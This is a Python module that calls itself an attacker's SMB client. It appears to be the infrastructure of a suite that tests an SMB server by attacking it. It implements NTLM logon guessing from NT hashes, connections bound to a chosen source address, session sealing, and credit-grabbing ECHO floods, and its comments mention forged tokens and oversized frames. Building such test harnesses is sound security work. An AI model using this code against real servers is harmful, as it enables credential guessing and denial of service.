"""The attacker's client: a connection from an address of its choice, plain, signed or sealed.

Beyond `raw.Client` it has a source address, a logon in steps, forged tokens, sealing, and oversized frames.
"""

import hashlib
import os
import socket
import struct

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.kdf.kbkdf import KBKDFHMAC, CounterLocation, Mode

import raw

from . import ntlm

LOGON_FAILURE, ACCESS_DENIED, INVALID_PARAMETER = 0xC000006D, 0xC0000022, 0xC000000D
INSUFFICIENT_RESOURCES, SESSION_DELETED, NAME_NOT_FOUND = 0xC000009A, 0xC0000203, 0xC0000034
BAD_NETWORK_NAME = 0xC00000CC


def quietly(function, *args, **more):
    """Returns the result, or None if the server refused, ended the connection or was too slow."""
    try:
        return function(*args, **more)
    except (OSError, raw.Refused):
        return None


def connect(target, source=None, timeout=10):
    """Opens a TCP connection to `target`, (address, port), from the address `source`."""
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    end = socket.socket(family, socket.SOCK_STREAM)
    end.settimeout(timeout)
    try:
        if source:
            end.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            end.bind((source, 0))
        end.connect(target)
    except OSError:
        end.close()
        raise
    end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return end


class Link(raw.Client):
    """A negotiated connection; `log_on_as` makes a session on it."""

    def __init__(self, target, source=None, guid=None, seal=False, timeout=10):
        self.address = target[0]
        self.socket = connect(target, source, timeout)
        self.next_id, self.credits, self.key = 0, 1, None
        self.session_id, self.tree_id, self.answers = 0, 0, {}
        self.hash = bytes(64)
        self.guid = guid or os.urandom(16)
        self.wants_seal, self.sealing, self.opening, self.nonce = seal, None, None, 0
        self.negotiate()

    # Methods for negotiation and logon.

    def negotiate(self):
        contexts = struct.pack("<HHIHHH", 1, 38, 0, 1, 32, 1) + os.urandom(32)
        if self.wants_seal:
            contexts += bytes(-len(contexts) % 8) + struct.pack("<HHIHH", 2, 4, 0, 1, 2)  # AES-128-GCM
        body = struct.pack("<HHHHI16sIHH", 36, 1, 1, 0, 0x46, self.guid, 104, 2 if self.wants_seal else 1, 0)
        body += struct.pack("<H", 0x0311)
        self.preauthenticated(raw.NEGOTIATE, body + bytes(-len(body) % 8) + contexts)
        self.base = self.hash

    def setup(self, token, session_id=None, previous=0, flags=0):
        """Sends one SESSION_SETUP; returns its answer, with any status, and its token."""
        body = struct.pack("<HBBIIHHQ", 25, flags, 1, 0, 0, 88, len(token), previous) + token
        message = (
            self.header(raw.SESSION_SETUP, 1, 0, self.next_id, 0, self.session_id if session_id is None else session_id)
            + body
        )
        self.next_id += 1
        self.send_frame(message)
        self.hash = hashlib.sha512(self.hash + message).digest()
        while True:
            frame = self.receive_frame()
            answer = raw.Answer(frame)
            if answer.status != raw.PENDING:
                break
        if answer.status == raw.MORE_PROCESSING:
            self.hash = hashlib.sha512(self.hash + frame).digest()
        offset, length = struct.unpack_from("<HH", answer.body, 4) if len(answer.body) >= 8 else (0, 0)
        return answer, answer.message[offset : offset + length]

    def challenge(self, previous=0):
        """Begins a logon; returns the server's challenge."""
        self.hash = self.base
        answer, token = self.setup(ntlm.negotiate(), session_id=0, previous=previous)
        self.session_id = answer.must(raw.MORE_PROCESSING).session_id
        return ntlm.Challenge(token)

    def guess(self, user, hashed, **odd):
        """Tries one logon; returns the status of the last answer. `hashed` is the NT hash of the password."""
        challenge = self.challenge(odd.pop("previous", 0))
        token, key = ntlm.authenticate(challenge, user, hashed, **odd)
        answer, _ = self.setup(token)
        if answer.status == raw.SUCCESS:
            self.keys(key)
        return answer.status

    def keys(self, exported):
        def derive(label):
            return KBKDFHMAC(
                SHA256(), Mode.CounterMode, 16, 4, 4, CounterLocation.BeforeFixed, label, self.hash, None
            ).derive(exported)

        self.key = derive(b"SMBSigningKey\0")
        if self.wants_seal:
            self.key, self.signing = None, self.key
            self.sealing, self.opening = AESGCM(derive(b"SMBC2SCipherKey\0")), AESGCM(derive(b"SMBS2CCipherKey\0"))

    def log_on_as(self, user, password):
        status = self.guess(user, ntlm.nt_hash(password) if isinstance(password, str) else password)
        if status != raw.SUCCESS:
            raise raw.Refused(raw.SESSION_SETUP, status)
        return self

    # Methods that send and receive frames.

    def send_frame(self, frame):
        if self.sealing:
            frame = self.seal(frame)
        self.socket.sendall(struct.pack(">I", len(frame)) + frame)

    def seal(self, frame, session_id=None, nonce=None):
        if nonce is None:
            self.nonce += 1
            nonce = struct.pack("<Q", self.nonce) + bytes(8)
        tail = nonce + struct.pack("<IHHQ", len(frame), 0, 1, self.session_id if session_id is None else session_id)
        sealed = self.sealing.encrypt(nonce[:12], frame, tail)
        return b"\xfdSMB" + sealed[-16:] + tail + sealed[:-16]

    def receive_frame(self):
        frame = super().receive_frame()
        if frame[:4] == b"\xfdSMB":
            try:
                frame = self.opening.decrypt(frame[20:32], frame[52:] + frame[4:20], frame[20:52])
            except InvalidTag:
                raise ConnectionError("an answer that cannot be unsealed") from None
        return frame

    def ends(self, seconds):
        """Returns True if the server ends the connection within `seconds`; discards what it sends."""
        self.socket.settimeout(seconds)
        try:
            while self.socket.recv(65536):
                pass
        except TimeoutError:
            return False
        except OSError:
            pass
        return True

    # Requests that most attacks use.

    def connect_tree(self, share):
        path = f"\\\\{self.address}\\{share}".encode("utf-16-le")
        answer = self.call(raw.TREE_CONNECT, struct.pack("<HHHH", 9, 0, 72, len(path)) + path, tree_id=0)
        if answer.status == raw.SUCCESS:
            self.tree_id = answer.tree_id
        return answer

    def open(self, name, **more):
        """Opens a file or directory; returns its FileId."""
        return self.call(raw.CREATE, raw.create_body(name, **more)).must().body[64:80]

    def open_directory(self, name=""):
        """Opens a directory for listing; returns its FileId."""
        return self.open(name, access=0x100081, options=1)

    def shut(self, file):
        """Closes a file; returns the answer."""
        return self.call(raw.CLOSE, raw.close_body(file))

    def rename(self, file, name):
        """Renames an open file, replacing what has the name, and closes it; returns the status of the rename."""
        to = name.encode("utf-16-le")
        data = struct.pack("<B7xQI", 1, 0, len(to)) + to
        status = self.call(raw.SET_INFO, raw.set_body(file, 1, 10, data)).status
        self.shut(file)
        return status

    def gain_credits(self, wanted):
        """Sends ECHOes until the server has granted `wanted` credits or grants no more; returns the number."""
        granted, before = 0, -1
        while granted < wanted and granted != before:
            before = granted
            header = self.header(raw.ECHO, 1, 0, self.next_id, 0, self.session_id)
            header = header[:14] + struct.pack("<H", min(wanted, 8000)) + header[16:]
            message, message_id = header + struct.pack("<HH", 4, 0), self.next_id
            self.next_id += 1
            self.send_frame(self.sign(message) if self.key else message)
            granted += self.await_answer(message_id).credits - 1
        return granted
